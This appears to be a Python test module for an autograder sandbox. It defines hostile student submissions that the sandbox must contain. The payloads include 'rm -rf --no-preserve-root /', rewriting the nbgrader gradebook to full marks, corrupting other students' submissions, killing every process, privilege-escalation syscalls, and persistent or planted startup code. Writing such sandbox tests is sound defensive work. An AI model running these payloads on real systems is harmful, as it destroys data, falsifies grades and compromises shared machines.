"""Attacks that want to reach out: the network, the gradebook, other submissions, other processes; or to stay.

Each is a right submission. The server that must not be reached, the files that must not be written and the
processes that must not be there are looked at by `judge.py`.
"""

from .hand import attack

# Out of the machine


def _call(hand, code: str) -> None:
    hand.end(f"import socket\nport, name = {hand.place.port}, {hand.student!r}.encode()\n" + code)


@attack("right")
def calls_the_machines_server(hand):
    """Connects to a server on this machine, by every address that leads there."""
    _call(
        hand,
        """
for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", socket.gethostname()):
    try:
        with socket.create_connection((host, port), timeout=0.5) as s: s.sendall(name)
    except OSError: pass
""",
    )


@attack("right")
def calls_the_machines_server_by_datagram(hand):
    """Sends datagrams to it."""
    _call(
        hand,
        """
try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(name, ("127.0.0.1", port))
except OSError: pass
""",
    )


@attack("right")
def calls_by_a_local_socket(hand):
    """Connects to sockets of this machine that have a name and no network."""
    _call(
        hand,
        f"""
for address in ("\\0chalk-attack-" + str(port), {str(hand.place.mailbox / "socket")!r}):
    try:
        s = socket.socket(socket.AF_UNIX); s.connect(address); s.sendall(name)
    except OSError: pass
""",
    )


@attack("right")
def calls_from_a_hidden_test(hand):
    """Connects while a test runs, from a process that it has started."""
    hand.write(
        "square",
        f"""
import subprocess, sys
def square(x):
    subprocess.Popen([sys.executable, "-c", "import socket; "
        "socket.create_connection(('127.0.0.1', {hand.place.port}), 0.5).sendall(b'{hand.student}')"])
    return x * x
""",
    )


@attack("right")
def looks_for_other_interfaces(hand):
    """Lists the network's interfaces, and opens raw and kernel sockets."""
    _call(
        hand,
        """
others = [n for _, n in socket.if_nameindex() if n != "lo"]
if others: print("chalk-network", others)
for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_NETLINK, socket.SOCK_RAW), (socket.AF_VSOCK, socket.SOCK_STREAM)):
    try: socket.socket(family, kind)
    except OSError: pass
try:
    s = socket.socket(socket.AF_VSOCK); s.settimeout(0.5); s.connect((2, port)); s.sendall(name)
except OSError: pass
""",
    )


# Into the course


@attack("right")
def writes_the_gradebook(hand):
    """Gives itself full marks in nbgrader's database, and others none."""
    hand.end(
        f"""
import sqlite3, glob
for path in [{str(hand.course / ".grading" / "gradebook.db")!r}, {str(hand.course / "gradebook.db")!r}] + glob.glob("../../../*.db"):
    try:
        with sqlite3.connect(f"file:{{path}}?mode=rw", uri=True, timeout=1) as book:
            book.execute("update grade set manual_score = 99")
    except sqlite3.Error: pass
"""
    )


@attack("right")
def writes_the_gradebook_while_it_is_tested(hand):
    """Does it while a test runs, by another process."""
    hand.write(
        "square",
        f"""
import subprocess, sys
def square(x):
    subprocess.run([sys.executable, "-c", "import sqlite3; book = sqlite3.connect('file:{hand.course}/.grading/gradebook.db?mode=rw', uri=True); book.execute('update grade set manual_score = 99'); book.commit()"], capture_output=True)
    return x * x
""",
    )


@attack("right")
def writes_into_other_submissions(hand):
    """Spoils what others handed in, the solutions, the results, and leaves a file beside the course."""
    hand.end(
        f"""
import glob, os
course = {str(hand.course)!r}
for path in glob.glob(course + "/**/*", recursive=True) + [course + "/mine", {str(hand.place.mailbox / "mine")!r}]:
    if "{hand.student}" in path: continue
    try:
        with open(path, "ab") as file: file.write(b"\\n# chalk-was-here")
    except OSError: pass
"""
    )


@attack("right")
def climbs_out_of_its_folder(hand):
    """Writes to ../ as far as it goes, and to the folders of the system."""
    hand.end(
        """
import os
for where in ["../" * n + "chalk-climbed" for n in range(1, 9)] + [f"/{f}/chalk-climbed" for f in
        ("etc", "root", "usr", "var", "home", "dev", "proc", "sys", "run", "opt", "")]:
    try: open(where, "w").write("x"); print("chalk-climbed-to", os.path.abspath(where)) if "tmp" not in os.path.abspath(where) else None
    except OSError: pass
"""
    )


@attack("right", harm="it would remove the machine's files", slow=True)
def removes_all_files(hand):
    """Removes what it can, from the root on."""
    hand.end("!rm -rf --no-preserve-root / 2>/dev/null; rm -rf ../../* .. 2>/dev/null; true")


# Other processes


@attack("right")
def signals_everybody(hand):
    """Sends SIGKILL and SIGSTOP to every process that it may."""
    hand.write(
        "square",
        """
import os, signal
def square(x):
    for pid in [os.getppid(), *range(2, 5000)]:
        if pid not in (0, os.getpid()):
            for number in (signal.SIGSTOP, signal.SIGKILL):
                try: os.kill(pid, number)
                except OSError: pass
    return x * x
""",
    )


@attack("right")
def signals_minus_one(hand):
    """Sends SIGKILL to -1, to its group and to its session."""
    hand.end(
        """
import os, signal
if os.fork() == 0:
    for target in (-1, 0):
        try: os.kill(target, signal.SIGTERM)
        except OSError: pass
    os._exit(0)
"""
    )


@attack("right")
def takes_privileges(hand):
    """Tries to become root, to mount, to leave its namespaces, to load a program into the kernel."""
    hand.end(
        """
import ctypes, os
libc = ctypes.CDLL(None)
done = [name for name, call in {
    "setuid": lambda: libc.setuid(0), "setgid": lambda: libc.setgid(0),
    "unshare": lambda: libc.unshare(0x10000000), "setns": lambda: libc.setns(3, 0),
    "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), "chroot": lambda: libc.chroot(b"/tmp"),
    "bpf": lambda: libc.syscall(321, 0, 0, 0), "keyctl": lambda: libc.syscall(250, 0, 0, 0, 0, 0),
    "clone3": lambda: libc.syscall(435, (ctypes.c_uint64 * 11)(0x10000000, *[0] * 10), 88),
    "io_uring": lambda: libc.syscall(425, 1, (ctypes.c_uint8 * 200)()),
}.items() if call() not in (-1,)]
if done and os.getuid() != 0: print("chalk-privileged", done)
"""
    )


@attack("right")
def stays_behind(hand):
    """Starts a process that leaves its session, ignores signals and lives on."""
    hand.end(
        f"""
import os, signal, subprocess, sys
if os.fork() == 0:
    try: os.setsid()
    except OSError: pass
    if os.fork() == 0:
        for n in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(n, signal.SIG_IGN)
        os.execv("/bin/sh", ["/bin/sh", "-c", "trap '' TERM HUP INT; sleep 120; : chalk-stays-{hand.student}"])
    os._exit(0)
"""
    )


@attack("right")
def stays_behind_from_a_test(hand):
    """Does it from a function that a test calls, with nohup and in the background of a shell."""
    hand.write(
        "square",
        f"""
import os
def square(x):
    os.system("nohup sh -c 'sleep 120; : chalk-stays-{hand.student}' >/dev/null 2>&1 &")
    return x * x
""",
    )


@attack("right")
def stays_behind_as_a_trap(hand):
    """Registers work for its own end: atexit, finalizers, a thread, an alarm."""
    hand.end(
        f"""
import atexit, os, signal, threading, time, weakref
def work(*_):
    os.system("sh -c 'sleep 120; : chalk-stays-{hand.student}' &")
atexit.register(work)
class Last: pass
last = Last(); weakref.finalize(last, work)
threading.Thread(target=lambda: (time.sleep(0.2), work()), daemon=True).start()
threading.Thread(target=lambda: time.sleep(120), daemon=False).start()
"""
    )


@attack("right")
def plants_for_the_next_one(hand):
    """Leaves things that the next submission would meet: modules, startup files, shared memory."""
    hand.end(
        """
import os
planted = "import builtins; builtins.abs = lambda x: 0"
for where in ("~/.ipython/profile_default/startup/00.py", "~/.local/lib/python3.11/site-packages/usercustomize.py",
              "/tmp/numpy.py", "/tmp/sitecustomize.py", "~/.bashrc"):
    path = os.path.expanduser(where)
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True); open(path, "a").write(planted)
    except OSError: pass
"""
    )
